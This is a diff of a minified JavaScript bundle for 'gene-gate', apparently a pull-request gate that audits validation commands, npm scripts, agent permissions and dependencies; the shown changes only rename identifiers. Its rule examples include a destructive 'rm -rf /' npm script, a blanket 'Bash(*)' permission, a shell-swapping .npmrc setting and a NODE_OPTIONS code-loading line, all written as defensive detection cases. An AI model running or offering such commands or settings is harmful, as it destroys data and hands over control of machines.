@@ -1,4 +1,4 @@
-import{createRequire as sn}from"module";var Pl={916:function(n,e){var t;t=!0,e.Io=e.kp=void 0;var s=new Uint32Array(65536),
+import{createRequire as sn}from"module";var Ll={916:function(n,e){var t;t=!0,e.Io=e.kp=void 0;var s=new Uint32Array(65536),
 r=function(l,B){for(var d=l.length,h=B.length,g=1<<d-1,C=-1,y=0,_=d,k=d;k--;)s[l.charCodeAt(k)]|=1<<k;for(k=0;k<h;k++){var v=s[B.
 charCodeAt(k)],O=v|y;v|=(v&C)+C^C,y|=~(v|C),C&=v,y&g&&_++,C&g&&_--,y=y<<1|1,C=C<<1|~(O|y),y&=O}for(k=d;k--;)s[l.charCodeAt(
 k)]=0;return _},i=function(l,B){for(var d=B.length,h=l.length,g=[],C=[],y=Math.ceil(d/32),_=Math.ceil(h/32),k=0;k<y;k++)
@@ -524,7 +524,7 @@ appendOnly:()=>({id:"append-only",message:"The audit log is append-only and is n
 append a correct event."}),unsureText:()=>({id:"file-in-doubt",message:"The content of the file is ambiguous, so nothing\
  in it is rewritten.",remedy:"Fix by hand what `gene-gate audit` reports about the file."})},l=new Set([c.cannotFail().id,
 c.checksNothing().id]);function B(d){return{id:d.rule,title:(0,s.Y)(d.rule)?.title,...(0,r.q0)(d)}}},56:function(n,e,t){
-t.d(e,{Y:()=>di});var s=t(442);function r(b){return x=>({severity:b,...x})}const i=r("error"),o=r("warning"),c=r("notice");
+t.d(e,{Y:()=>Bi});var s=t(442);function r(b){return x=>({severity:b,...x})}const i=r("error"),o=r("warning"),c=r("notice");
 function l(b,x,q,be){const Ke=Object.entries(q).map(([ot,Xt])=>[ot,{id:ot,layer:b,...be&&{profile:be},harm:Xt.severity===
 "error"?x:"bookkeeping",...Xt,message:B(Xt.message),remedy:B(Xt.remedy)}]);return Object.fromEntries(Ke)}function B(b){return typeof b!=
 "string"?b:x=>b.replace(/\{(\w+)\}/g,(q,be)=>{const Ke=x[be]??q;return typeof Ke=="object"?(0,s.p)(Ke):String(Ke)})}function d({
@@ -570,7 +570,7 @@ nt may do on the machine of everybody who opens the branch, and where its reques
 warning; one that gives less trust is a notice. Values of keys that are not known are not shown.",wrong:{head:{[g]:'{ "p\
 ermissions": { "allow": ["Bash(*)"] } }'}},right:{head:{[g]:'{ "model": "opus" }'}},configure:k,message:({tool:b,event:x,
 command:q,state:be,change:Ke,isMember:ot})=>{const[Xt,ms]=[`\`${x}\` of ${b}`,`\`${q}\``];if(be==="")return`${Xt} is ${ms}\
-: ${D[Ke]}.`;const En=be==="removed",[Bi,fi]=En?["removes","from"]:["adds","to"];return`This change ${ot?`${Bi} ${ms} ${fi}\
+: ${D[Ke]}.`;const En=be==="removed",[fi,hi]=En?["removes","from"]:["adds","to"];return`This change ${ot?`${fi} ${ms} ${hi}\
  ${Xt}`:En||q===""?`${En?"removes":"changes"} ${Xt}`:`sets ${Xt} to ${ms}`}: ${D[Ke]??"its meaning is not known"}.`},remedy:"\
 Read what it allows before anyone opens this branch, or restore it."}),"agent-file-unread":o({failsByLevel:!0,...v,harm:"\
 broken",title:"File of agents or editors is not read",why:"The commands of a file can only be shown if its syntax is rig\
@@ -1147,16 +1147,16 @@ const x=b.length-Un;return`${(0,s.p)(b.slice(0,Un))}${x>0?`, and ${x} more lines
 "review"?`Ask ${b===1?"a person":ar(b)} with write access, other than the author, to approve the pull request with a rev\
 iew that contains the line \`/gene-gate approve\`${be&&`, or \`/gene-gate approve ${be}\` for exactly this digest`}.`:`I\
 f ${q}, run the gate again with \`--approve=${be}\`.`}function or(b){return b.length===0?"no setting changes":`these set\
-tings change after the merge: ${Mt(b)}`}function Kr([b,...x]){return x.length===0?`\`${b}\` requires`:`\`${b}\` and ${x.
-length} more of its commands require`}function qr(b,x){if(b===1)return"";const q=x===1?"one has":`${x} have`;return x===
-0?` from ${ar(b)}`:` from ${ar(b)}, and ${q} approved`}function ar(b){return b===2?"two people":`${b} people`}const Yr=3;
-function cr(b){if(b.length===0)return"";const x=b.length-Yr;return`; not counted: ${b.slice(0,Yr).join("; ")}${x>0?`; an\
-d ${x} more`:""}`}function Io(b,x){return`ignores:
+tings change after the merge: ${Mt(b)}`}function qr([b,...x]){return x.length===0?`\`${b}\` requires`:`\`${b}\` and ${x.
+length} more of its commands require`}function Yr(b,x){if(b===1)return"";const q=x===1?"one has":`${x} have`;return x===
+0?` from ${ar(b)}`:` from ${ar(b)}, and ${q} approved`}function ar(b){return b===2?"two people":`${b} people`}const Vr=3;
+function cr(b){if(b.length===0)return"";const x=b.length-Vr;return`; not counted: ${b.slice(0,Vr).join("; ")}${x>0?`; an\
+d ${x} more`:""}`}function Ro(b,x){return`ignores:
   - rule: ${b}
     where: { gene: gene_a }
     reason: The engine writes it from its next release on.
     expires: ${x}-12-31
-`}const Vr=l("policy","broken",{"policy-changed":c({shownWhole:!0,title:"Change edits the policy; the policy of the base\
+`}const Qr=l("policy","broken",{"policy-changed":c({shownWhole:!0,title:"Change edits the policy; the policy of the base\
  branch applies",why:"The policy is always read from the base branch, so a change cannot allow its own content. An edit \
 of the policy applies from the next change on. The finding lists the keys that change, their old and new values, and whe\
 ther each change allows more or less, where this is known.",wrong:{base:{[Zt]:`limits:
@@ -1219,7 +1219,7 @@ f as many people as `approvals.gate` of the base policy says, given as for a com
 With `agent_files.level: approve`, so does a change of commands that run automatically.",wrong:{...ue,approvedBy:["autho\
 r"]},right:{...ue,approvedBy:["alice"],also:{"gate-weakened":"It stays in the report."}},message:({needed:b,given:x,refusals:q,
 weakens:be,runs:Ke})=>`The change ${[...be?["weakens the gate"]:[],...Ke?["changes commands that run automatically"]:[]].
-join(", ")} and waits for approval${qr(b,x)}${cr(q)}.`,remedy:({needed:b,means:x,digest:q,weakens:be})=>ir(b,x,be?"the g\
+join(", ")} and waits for approval${Yr(b,x)}${cr(q)}.`,remedy:({needed:b,means:x,digest:q,weakens:be})=>ir(b,x,be?"the g\
 ate may become weaker as described":"machines may run this",q)}),"input-loosens-policy":o({harm:"danger",actor:"human",title:"\
 Action input that loosens the policy is ignored",why:"On a pull request, the workflow file comes from the change itself,\
  so its inputs can only tighten the policy of the base branch. An input that allows more is ignored. A profile is also i\
@@ -1231,7 +1231,7 @@ head:{},inputs:{"command-timeout-seconds":3600}},right:{head:{},policy:`limits:
 ption in the policy has no effect",why:"A policy can soften warnings, and errors about what an asset claims or how much \
 it touches. It cannot soften what protects the machine. An ignore, or a level with `until`, is temporary: after its last\
  day the finding counts again, and the exception is reported until the cause is fixed or a person sets a new date. An ig\
-nore that covers nothing hides the next finding of its rule.",wrong:{...te({validation:['node -e "1"']}),policy:Io("outs\
+nore that covers nothing hides the next finding of its rule.",wrong:{...te({validation:['node -e "1"']}),policy:Ro("outs\
 ide-code",2099),also:{"outside-code":"It is blocked with or without the ignore."}},right:ds,message:"{exception} in the \
 policy has no effect: {refusal}.",remedy:"Fix what the rule reports and remove the exception, or correct its rule or dat\
 e."}),"approval-missing":c({approval:"waits",actor:"human",title:"Gene waits for approval",why:"The policy allows these \
@@ -1243,14 +1243,14 @@ fected_by` in the policy names; a base branch that moves on does not. See [appro
 approvedBy:["author"]},right:{...ds,policy:Rt,approvedBy:["alice"]},configure:`A policy whose profile does not require c\
 onfirmation, such as evolver, waits only for scripts that nobody can read.
 A gene whose commands are neither dangerous nor experimental, and run no such script, never waits.`,message:({gene:b,confirmation:x,
-needed:q,given:be,commands:Ke,refusals:ot})=>`The gene \`${b}\` waits for approval: ${Kr(Ke)} ${x} confirmation${qr(q,be)}${cr(
+needed:q,given:be,commands:Ke,refusals:ot})=>`The gene \`${b}\` waits for approval: ${qr(Ke)} ${x} confirmation${Yr(q,be)}${cr(
 ot)}.`,remedy:({needed:b,means:x,digest:q})=>ir(b,x,"these commands may run with the files of this commit",q)})});function Bs(b=[]){
 const x=["node","npm","npx",...b].map(q=>`\`${q}\``);return`${x.slice(0,-1).join(", ")}, and ${x.at(-1)}`}const ur=new Set(
-": cd echo exit export false printf pwd return set true umask unset wait".split(" ")),Qr=/^(?:python3?|php|bun|deno)$/,Hs=/^(?:interpreter|builder|manager|other)$/,
+": cd echo exit export false printf pwd return set true umask unset wait".split(" ")),Xr=/^(?:python3?|php|bun|deno)$/,Hs=/^(?:interpreter|builder|manager|other)$/,
 zs=/^[A-Za-z][\w.+-]*$/;function fs({program:b,allowed:x=[],...q}){const{group:be="",offered:Ke="",word:ot=""}=q;if(Ke!==
 "")return`${ot===""?"Allow":`Write \`${ot}\`, and allow`} \`${Ke}\` in the policy: add it to \`programs\` on the base branc\
 h.`;if(ot!==""){const En=/^python3?$/.test(b)?` -m ${ot}`:"";return`Write \`${ot}\` instead of \`${b}${En}\`.`}const Xt=x.
-find(En=>Qr.test(En))??"node",ms=Hs.test(be)&&zs.test(b)?", or describe the program with `families` and add it to `progr\
+find(En=>Xr.test(En))??"node",ms=Hs.test(be)&&zs.test(b)?", or describe the program with `families` and add it to `progr\
 ams` in the policy of the base branch":"";return`Move what \`${b}\` does into a script and run it with \`${Xt}\`${ms}.`}
 const lr=l("program","broken",{"command-not-text":i({anyText:!0,title:"Validation command is not a string",why:"Each ent\
 ry of `validation` is one command line. Engines that convert other values to text run a command that was never written: \
@@ -1274,8 +1274,8 @@ se into a script.",wrong:"bash scripts/check.sh",right:"node scripts/check.js",c
 "offered","word","allowed"],message:({program:b,allowed:x})=>`\`${b}\` is not an allowed program; only ${Bs(x)} are allo\
 wed.`,remedy:b=>b.group==="npx"?`Add the package of \`${b.program}\` to \`devDependencies\` and the lockfile, and run it wi\
 th \`npx\`.`:ur.has(b.program)?`Write a command that fails if something is wrong, such as \`node scripts/check.js\`; \`${b.
-program}\` checks nothing.`:fs(b)})},"`evolver` and `validator`"),dr={gene:"gene_b"},Xr={status:"success",score:.9,notes:"\
-It went well."},ei=[U({genes_used:["gene_b"],capsule_id:"capsule_1"}),U({id:"evt_2",parent:"evt_1",genes_used:["gene_b"],
+program}\` checks nothing.`:fs(b)})},"`evolver` and `validator`"),dr={gene:"gene_b"},ei={status:"success",score:.9,notes:"\
+It went well."},ti=[U({genes_used:["gene_b"],capsule_id:"capsule_1"}),U({id:"evt_2",parent:"evt_1",genes_used:["gene_b"],
 capsule_id:"capsule_1"})],$={files:te({summary:"Another one."}).head},P="assets/gep/genes_revoked.json";function Oe(b){return`${JSON.
 stringify({...{protocol:"gep-a2a",message_type:"revoke",sender_id:"node_7"},payload:{target_local_id:b,reason:"It delete\
 s files."}},null,2)}
@@ -1303,15 +1303,15 @@ fields-not-hashed":c({instance:["fields"],title:"Fields of an asset are not cove
 ome.notes` and `outcome.details` from a Capsule before it hashes it, and an engine its local annotations (`generation_me\
 ta`, `model_name`) from a Gene. Anybody between its author and you can change these texts, and the hash still matches. A\
  promoted asset may be hashed again, and the new hash would make such a text look like the author\u2019s. So the promoted ass\
-et does not contain it.",wrong:{candidates:[Y({outcome:Xr,asset_id:ke.hub})]},right:{candidates:[Y({outcome:Xr,asset_id:ke.
+et does not contain it.",wrong:{candidates:[Y({outcome:ei,asset_id:ke.hub})]},right:{candidates:[Y({outcome:ei,asset_id:ke.
 own})]},message:"The `asset_id` of the {type} `{id}` does not cover {fields}. The promoted {type} leaves this text out.",
 remedy:"No action is required; to keep the text, ask the author for the asset with the hash of its whole content."}),"bu\
 ndle-incomplete":i({unproven:!0,title:"Candidate belongs to a bundle that is not promoted",why:"Agents publish a Gene to\
 gether with the Capsules that prove it, and hubs accept a bundle as a whole. What one message or one archive contains is\
  a bundle, and of its Genes with their Capsules all are promoted or none is. Any other Capsule needs its Gene, because i\
 t cannot be applied without it; a Gene does not need the Capsules that others offer.",wrong:{candidates:[V({id:"gene_b",
-strategy:[]}),Y(dr)],events:ei,also:{"schema-field":"It is why the Gene is not promoted.","strategy-missing":"It is why \
-the Gene is not promoted."}},right:{candidates:[V({id:"gene_b"}),Y(dr)],events:ei},instance:["type","id","otherType","ot\
+strategy:[]}),Y(dr)],events:ti,also:{"schema-field":"It is why the Gene is not promoted.","strategy-missing":"It is why \
+the Gene is not promoted."}},right:{candidates:[V({id:"gene_b"}),Y(dr)],events:ti},instance:["type","id","otherType","ot\
 her"],message:"The {type} `{id}` is not promoted because the {otherType} `{other}`, which it needs or was sent with, is \
 not.",remedy:"Fix the other asset, or pass the two in separate promotions."}),"nothing-to-promote":c({title:"Message or \
 asset is nothing that agents exchange",why:"Agents offer Genes, Capsules and EvolutionEvents in messages of the types `p\
@@ -1369,7 +1369,7 @@ re('node:fs');
 `),run:{untracked:{".env.test":`MODE=test
 `}}},Gt=`setInterval(() => {}, 1000);
 `;function hs(b){return b&&`; ${b}`}const In=5;function ns(b){return`${(0,s.p)(b.slice(0,In))}${b.length>In?", \u2026":""}`}
-const Cu=l("run","broken",{"command-failed":i({counted:["how"],title:"Validation command failed",why:"A command passes w\
+const yu=l("run","broken",{"command-failed":i({counted:["how"],title:"Validation command failed",why:"A command passes w\
 hen it exits with code 0. It fails with any other code, and if it could not start or was killed by a signal: without an \
 exit code it has validated nothing. The later commands of the gene are skipped. If containment explains the failure, bec\
 ause a command reached a limit or needs something of the machine that it does not see, the finding says what to change.",
@@ -1486,15 +1486,15 @@ y the genes of its own shard. One shard can show that a gene fails, but only all
 es. See [matrix](../github.md#on-several-machines).",wrong:{...te({id:"gene_a"},{id:"gene_b"}),run:{shard:"1/2"}},right:{
 ...te({id:"gene_a"},{id:"gene_b"}),run:{}},message:({index:b,of:x,genes:q})=>`This report covers only shard ${b} of ${x}\
 , with ${q===1?"one gene":`${q} genes`}.`,remedy:"Merge the reports of all shards with `gene-gate merge`, or with `mode:\
- report` in the action."})}),$o={...{"evolver/assets/gep/genes.json":[V({validation:["node check.js"]})],"evolver/check.\
+ report` in the action."})}),No={...{"evolver/assets/gep/genes.json":[V({validation:["node check.js"]})],"evolver/check.\
 js":`work();
 `},"evolver/package.json":`{ "name": "evolver" }
-`},ti=`stores:
+`},ni=`stores:
 - path: evolver
   root: evolver
 `;function ps(b,x,q){return q?ps(b,`${x}, where the checkout is \`${q}\``):b==="moves"?`after this change they would run\
  in ${x}`:b==="accepts"?`this one is refused there, and would be accepted in ${x}`:`a package.json above it is also in ${x}`}
-const wu=l("change","danger",{"store-root-missing":i({forbidsRunning:"change",title:"Root of a store does not exist",why:"\
+const bu=l("change","danger",{"store-root-missing":i({forbidsRunning:"change",title:"Root of a store does not exist",why:"\
 Commands of a store run in its root: the directory that the policy names for it, or the one that the base has. Without t\
 hat directory they would not run at all.",wrong:{head:{[W]:[V()]},policy:`stores:
 - path: assets/gep
@@ -1502,25 +1502,25 @@ hat directory they would not run at all.",wrong:{head:{[W]:[V()]},policy:`stores
 `,also:{"target-missing":"The scripts of the gene would be in the directory."}},right:{head:{[W]:[V()]},policy:`stores:
 - path: assets/gep
   root: .
-`},configure:ti,message:"The commands of `{store}` run in `{root}`, which is not a directory of this commit.",remedy:({root:b,
+`},configure:ni,message:"The commands of `{store}` run in `{root}`, which is not a directory of this commit.",remedy:({root:b,
 named:x})=>x?`Correct \`stores\` in the policy on the base branch, or add \`${b}\`.`:`Restore \`${b}\`, or set \`stores\` i\
 n the policy on the base branch.`}),"store-root-unclear":c({title:"Store could have another root",why:"The commands of a\
  store run in the nearest directory above it that has a package.json, else in the root of the repository, unless the pol\
 icy names another one. Some engines run them in the root of the repository (`EVOLVER_USE_PARENT_GIT=true`). The gate doe\
 s not choose a directory because a command works there. A change that adds or removes a package.json so that later chang\
-es are judged with another root is a warning.",wrong:{head:$o},right:{head:$o,policy:ti},configure:ti,message:({store:b,
+es are judged with another root is a warning.",wrong:{head:No},right:{head:No,policy:ni},configure:ni,message:({store:b,
 root:x,others:q,because:be,checkoutAs:Ke})=>`The commands of \`${b}\` run in \`${x}\`; ${ps(be,(0,s.p)(q),Ke)}.`,remedy:({
 store:b,checkoutAs:x})=>`If an engine runs them elsewhere, set the root in the policy on the base branch: \`stores: [{pat\
-h: ${b}, ${x?`checkout_as: ${x}`:"root: DIRECTORY"}}]\`.`})}),Ro={"&":"Remove `&`","|":"Move both steps into one script \
-and run it with `node`","||":"Keep the command that must succeed and remove the rest, which hides a failure"};function ni(b,x,q,be){
+h: ${b}, ${x?`checkout_as: ${x}`:"root: DIRECTORY"}}]\`.`})}),Fo={"&":"Remove `&`","|":"Move both steps into one script \
+and run it with `node`","||":"Keep the command that must succeed and remove the rest, which hides a failure"};function si(b,x,q,be){
 if(!be)return`\`${b}\` expands to the names of the files that exist.`;if(q===0)return`\`${b}\` matches no file and is pas\
-sed unchanged.`;const Ke=q>x.length?` and ${q-x.length} more`:"";return`\`${b}\` expands to ${(0,s.p)(x)}${Ke}.`}const No={
+sed unchanged.`;const Ke=q>x.length?` and ${q-x.length} more`:"";return`\`${b}\` expands to ${(0,s.p)(x)}${Ke}.`}const Po={
 bracket:"shells disagree about its brackets",dot:"it matches the directory itself in some shells",empty_segment:"shells \
 disagree about an empty path segment",flag:"a matching file name can begin with `-`, which the program reads as a flag",
 letters:"a letter in a file name counts as one or several characters, depending on the locale",symlink:"it leads through\
  a symbolic link or a submodule",file_name:"a matching file name contains a character that is not allowed in commands",outside:"\
 it leads to files outside the repository",program:"it lets file names decide what runs",too_many:"there are too many pat\
-terns or matching files"},si=l("syntax","broken",{"empty-command":i({title:"Command is empty or has no program",why:"A c\
+terns or matching files"},ri=l("syntax","broken",{"empty-command":i({title:"Command is empty or has no program",why:"A c\
 ommand that runs nothing validates nothing, and a shell reports success for it.",wrong:"NODE_ENV=test",right:{command:"N\
 ODE_ENV=test node scripts/validate.js",also:{"environment-assignment":"The remaining variable is allowed."}},message:"Th\
 e command does not name a program to run.",remedy:"Write a program and its arguments, or remove the entry."}),"command-t\
@@ -1536,7 +1536,7 @@ a single space."}),"shell-operator":i({shape:"operator",cause:({operator:b})=>`s
 ins a shell operator",why:"Commands run without a shell, one process per command, so that what runs is exactly what was \
 audited. A shell reads `;`, `&`, and `|` as the end of one command and the start of another.",wrong:"node scripts/a.js &\
 & node scripts/b.js",right:"node scripts/a.js",message:"The command contains the shell operator `{operator}`, but comman\
-ds run without a shell.",remedy:({operator:b})=>`${Ro[b]??"Write each command that checks something as a separate entry"}\
+ds run without a shell.",remedy:({operator:b})=>`${Fo[b]??"Write each command that checks something as a separate entry"}\
 ; if \`${b}\` is data, quote it.`}),"shell-redirection":i({shape:"redirection",title:"Command redirects input or output",
 why:"Commands run without a shell, so nothing opens the file and the program receives the redirection as an argument. In\
  a shell, a redirection can write any file that the user can write.",wrong:"node scripts/validate.js > report.txt",right:"\
@@ -1614,12 +1614,12 @@ js"',message:({word:b,looks_like:x,characters:q})=>`\`${b}\` looks like or becom
 hes"],title:"Command contains an unquoted glob pattern",why:"The result of a glob pattern depends on which files exist. \
 The gate expands the pattern against the audited files, in byte order, and reports the result. A quoted pattern means th\
 e same everywhere.",wrong:"node --test test/*.test.js",right:"node --test 'test/*.test.js'",message:({pattern:b,matches:x,
-count:q,judged:be})=>ni(b,x,q,be),remedy:({pattern:b})=>`Name the files, or quote the pattern, \`${(0,s.f)(b)}\`, if it i\
+count:q,judged:be})=>si(b,x,q,be),remedy:({pattern:b})=>`Name the files, or quote the pattern, \`${(0,s.f)(b)}\`, if it i\
 s data or the tool expands it.`}),"glob-unclear":i({instance:["pattern"],title:"Glob pattern decides what runs, or is am\
 biguous",why:"File names must not choose the program or script, or become flags: adding a file would change what the com\
 mand does. A pattern that leads out of the repository, about which shells or locales disagree, or that leads through a l\
 ink, means something else on each machine.",wrong:"node *",right:"node scripts/validate.js '[^a]*'",message:({pattern:b,
-reason:x})=>`The glob pattern \`${b}\` is not expanded: ${No[x]}.`,remedy:({pattern:b})=>`Name the program, the script a\
+reason:x})=>`The glob pattern \`${b}\` is not expanded: ${Po[x]}.`,remedy:({pattern:b})=>`Name the program, the script a\
 nd the files, or quote the pattern, \`${(0,s.f)(b)}\`, if it is data.`}),"environment-assignment":o({title:"Command sets\
  an environment variable",why:"The gate adds the variable to the environment of this command, as a shell does. It report\
 s the variable because the command can behave differently without it.",wrong:"NODE_ENV=test npm test",right:"npm test",message:"\
@@ -1638,11 +1638,11 @@ ner executes if a program prints it.`,remedy:"Write the text without `::` and `#
 harm:"danger",title:"Argument contains markup that hides text in reports",why:"An HTML comment hides the text after it f\
 rom reviewers, and a code fence ends the block that shows the command.",wrong:"node scripts/echo.js '<!-- x -->'",right:"\
 node scripts/echo.js 'x'",message:"`{written}` hides or breaks the text around it where the command is displayed.",remedy:"\
-Remove the markup, or read the text from a file."})}),bu=JSON.stringify({scripts:Object.fromEntries(Array.from({length:66},
+Remove the markup, or read the text from a file."})}),_u=JSON.stringify({scripts:Object.fromEntries(Array.from({length:66},
 (b,x)=>[String(x),x<65?`npm run ${x+1}`:"node x.js"]))});function Wn(b){return{command:"npm test",files:{"package.json":`\
-{ "scripts": { "test": "${b}" } }`}}}function ri(b,x){const q={"package.json":`{ "scripts": { ${x} } }`};return{command:`\
-npm run ${b}`,files:q}}function Fo(b,x){return{command:"npm test",files:{".npmrc":b},...x===void 0?{}:{base:{".npmrc":x}}}}
-function ii(b){return{command:"node --env-file=.env scripts/check.js",files:{".env":b}}}function Js(b){return{command:"n\
+{ "scripts": { "test": "${b}" } }`}}}function ii(b,x){const q={"package.json":`{ "scripts": { ${x} } }`};return{command:`\
+npm run ${b}`,files:q}}function Lo(b,x){return{command:"npm test",files:{".npmrc":b},...x===void 0?{}:{base:{".npmrc":x}}}}
+function oi(b){return{command:"node --env-file=.env scripts/check.js",files:{".env":b}}}function Js(b){return{command:"n\
 ode scripts/check.js",files:{"scripts/check.js":b}}}function $n(b){return{command:"npx eslint src",files:b}}function ve(b){
 const x=[V({validation:["node scripts/extra.js"]})];return{head:{[W]:x,"scripts/extra.js":b}}}function ss(b){const x=q=>`\
 { "devDependencies": { "eslint": "${q}" } }
@@ -1651,18 +1651,18 @@ const x=[V({validation:["node scripts/extra.js"]})];return{head:{[W]:x,"scripts/
 cripts": { "test": "node --test" } }'},Nt={command:"npm test --workspaces",base:fr,files:fr},kt={committed:b=>`\`${b}\` i\
 s committed, so a change can edit it`,elsewhere:b=>`\`${b}\` does not belong to it`,linked:b=>`\`${b}\` is another path t\
 o its files`,removed:()=>"the change removes it from the lockfile",undeclared:()=>"it is not declared in package.json",unlocked:()=>"\
-it is not in the lockfile"},oi={alias:(b,x)=>`installs the package \`${x}\` under the name \`${b}\``,file:(b,x)=>`instal\
+it is not in the lockfile"},ai={alias:(b,x)=>`installs the package \`${x}\` under the name \`${b}\``,file:(b,x)=>`instal\
 ls \`${b}\` from \`${x}\`, and not from where the base branch has it`,git:(b,x)=>`installs \`${b}\` from the git reposito\
 ry \`${x}\``,host:(b,x)=>`installs \`${b}\` from the host \`${x}\`, which the base branch does not use`,integrity:(b,x)=>`\
 has other content for the same version of \`${b}\`: \`${x}\``,tarball:(b,x)=>`installs \`${b}\` from the archive \`${x}\``},
-ai={symlink:"is a symbolic link that leads out of the repository",address:"is a URL, not a path in the repository",git:"\
+ci={symlink:"is a symbolic link that leads out of the repository",address:"is a URL, not a path in the repository",git:"\
 is in the `.git` directory, which is not part of any commit",workspace:"names workspaces that can be outside the reposit\
-ory"},ci={directory:"it names a directory without a main file",submodule:"it names a submodule",backslash:"it contains a\
- backslash",loop:"its symbolic links form a loop"},ui={depth:"scripts that run each other",count:"scripts of one command",
-time:"seconds for the scripts of all commands"},li=l("target","broken",{"target-outside":i({harm:"danger",title:"Command\
+ory"},ui={directory:"it names a directory without a main file",submodule:"it names a submodule",backslash:"it contains a\
+ backslash",loop:"its symbolic links form a loop"},li={depth:"scripts that run each other",count:"scripts of one command",
+time:"seconds for the scripts of all commands"},di=l("target","broken",{"target-outside":i({harm:"danger",title:"Command\
  runs a file outside the repository",why:"Only the contents of the commit have been reviewed. A path that leads out of t\
 he repository, directly or through a symbolic link, names a file of one machine, and files in `.git` are not part of any\
- commit or diff.",wrong:"node ../other/check.js",right:"node scripts/check.js",message:({path:b,reason:x})=>`\`${b}\` ${ai[x]??
+ commit or diff.",wrong:"node ../other/check.js",right:"node scripts/check.js",message:({path:b,reason:x})=>`\`${b}\` ${ci[x]??
 "is outside the repository"}.`,remedy:"Add the file to the repository and use its path relative to the root."}),"target-\
 missing":i({absent:!0,counted:["near","written"],title:"Command runs a file that the commit does not have",why:"Commands\
  see the audited commit, installed dependencies, what `prepare` wrote, and the files that `build_outputs` in the policy \
@@ -1681,7 +1681,7 @@ mit. It is judged when commands run, after `prepare`.",remedy:"Run the gate with
 t-a-file":i({title:"Command runs a path that is not a regular file",why:"Node.js runs a directory only if it has a main \
 file: the `main` of its package.json, or `index.js`. A loop of symbolic links or a path with backslashes has different m\
 eanings on different machines.",wrong:"node scripts",right:"node src",message:({path:b,reason:x})=>`\`${b}\` is not the p\
-ath of a regular file: ${ci[x]??x}.`,remedy:"Name a regular file, with forward slashes in its path."}),"target-extension":i(
+ath of a regular file: ${ui[x]??x}.`,remedy:"Name a regular file, with forward slashes in its path."}),"target-extension":i(
 {title:"File is not code of the language that runs it",why:"Node.js runs `.js`, `.mjs`, `.cjs`, and, in newer versions, \
 `.ts` files. It loads `.node` files as native code. Other programs start a shell for a file of another language, load na\
 tive code, or serve the file.",wrong:"node data.json",right:"node scripts/check.js",message:"`{path}` has the extension \
@@ -1698,7 +1698,7 @@ th its entry, keep `node_modules` out of git, and install the dependencies of th
 ry, a directory of the repository in place of a published package, an unknown registry host, or other content under the \
 same version is the code of somebody else. Another version of an alias or commit of a git repository that the base branc\
 h already has is accepted.",wrong:ss("github:someone/eslint"),right:ss("1.0.1"),message:({name:b,path:x,how:q,to:be})=>`\
-\`${x}\` ${oi[q](b,be)}.`,remedy:({name:b,how:x})=>x==="integrity"?"Restore the entry of the base branch: the content of\
+\`${x}\` ${ai[q](b,be)}.`,remedy:({name:b,how:x})=>x==="integrity"?"Restore the entry of the base branch: the content of\
  a published version does not change.":`Use \`${b}\` from a registry that the base branch uses, or add the dependency to \
 the base branch first.`}),"dependency-not-compared":o({title:"Tool is not compared with the base branch",why:"The gate r\
 eads the lockfile of npm (`package-lock.json` or `npm-shrinkwrap.json`, version 2 or 3), and compares where the tools th\
@@ -1767,20 +1767,20 @@ y unknown to the gate; a review decides about that.",wrong:Wn("touch x"),right:W
 npm script `{script}` runs `{text}`, which would be blocked as a validation command (`{reason}`).",remedy:"Use only Node\
  scripts and local tools in the script."}),"npm-script-dangerous":i({harm:"danger",actor:"human",title:"npm script is de\
 structive",why:"The script deletes files, formats disks, pipes a download into a shell, or does similar damage. No valid\
-ation needs this.",wrong:ri("clean",'"clean": "rm -rf /"'),right:Wn("node --test"),message:"The npm script `{script}` {d\
+ation needs this.",wrong:ii("clean",'"clean": "rm -rf /"'),right:Wn("node --test"),message:"The npm script `{script}` {d\
 anger}: `{text}`.",remedy:"Remove this command from the script."}),"npm-script-cycle":i({title:"npm scripts call each ot\
-her in a cycle",why:"The scripts would run until the time limit stops them.",wrong:ri("a",'"a": "npm run b", "b": "npm r\
-un a"'),right:ri("a",'"a": "node scripts/a.js"'),message:"The npm script `{script}` calls itself.",remedy:"Remove the ca\
+her in a cycle",why:"The scripts would run until the time limit stops them.",wrong:ii("a",'"a": "npm run b", "b": "npm r\
+un a"'),right:ii("a",'"a": "node scripts/a.js"'),message:"The npm script `{script}` calls itself.",remedy:"Remove the ca\
 ll that closes the cycle."}),"npm-script-chain":i({title:"npm scripts run too many other scripts",why:"The gate follows \
 the scripts that an npm script runs, up to a depth, a number, and a total time. What is beyond these limits is not judge\
-d.",wrong:{command:"npm run 0",files:{"package.json":bu}},right:"npm test",counted:["limit"],message:({script:b,limit:x,
-what:q})=>`The npm script \`${b}\` is not followed: the limit of ${x} ${ui[q]} is reached.`,remedy:"Run the commands dir\
+d.",wrong:{command:"npm run 0",files:{"package.json":_u}},right:"npm test",counted:["limit"],message:({script:b,limit:x,
+what:q})=>`The npm script \`${b}\` is not followed: the limit of ${x} ${li[q]} is reached.`,remedy:"Run the commands dir\
 ectly in the script."}),"npmrc-setting":i({harm:"danger",title:"Settings of npm are not known to be harmless",why:"Setti\
 ngs such as the shell, the Node.js options, the workspaces, and `usage` decide which script npm runs, or whether it runs\
  one. npm passes every setting to scripts as `npm_config_\u2026`, and replaces `${NAME}` with an environment variable. The ga\
 te does not apply them, but other machines do. A setting that the base branch has and that decides nothing is a warning;\
- its `ignore-scripts`, and its `node-options` with flags that are allowed for `node`, apply.",wrong:Fo("script-shell=./s\
-h"),right:Fo("fund=false","fund=true"),message:({path:b,keys:x,why:q})=>{if(x.length===0)return`\`${b}\` cannot be read: ${q}\
+ its `ignore-scripts`, and its `node-options` with flags that are allowed for `node`, apply.",wrong:Lo("script-shell=./s\
+h"),right:Lo("fund=false","fund=true"),message:({path:b,keys:x,why:q})=>{if(x.length===0)return`\`${b}\` cannot be read: ${q}\
 .`;const be=`\`${b}\` sets ${(0,s.p)(x)}`;return q==="decides"?`${be}, which decides what npm runs.`:q==="stands"?`${be}\
 , which is not known to be harmless.`:`${be}, which is new or changed, and not known to be harmless.`},remedy:({path:b,keys:x})=>x.
 length===0?`Commit \`${b}\` as a regular file.`:`Remove these settings from \`${b}\`, or change them in a separate pull r\
@@ -1813,8 +1813,8 @@ runner = "true"
 t = "check"
 `}},message:"The change edits `{path}`, which can decide what `{program} {subcommand}` runs.",remedy:"Change `{path}` in\
  a separate pull request, or give a module another name."}),"environment-file-unsafe":i({harm:"danger",title:"Environmen\
-t file changes what runs",why:"Variables such as NODE_OPTIONS load code, and PATH decides which programs run.",wrong:ii(
-"NODE_OPTIONS=--require=./x.js"),right:{...ii("APP_MODE=test"),also:{weakens:"The file is harmless, but the rule reports\
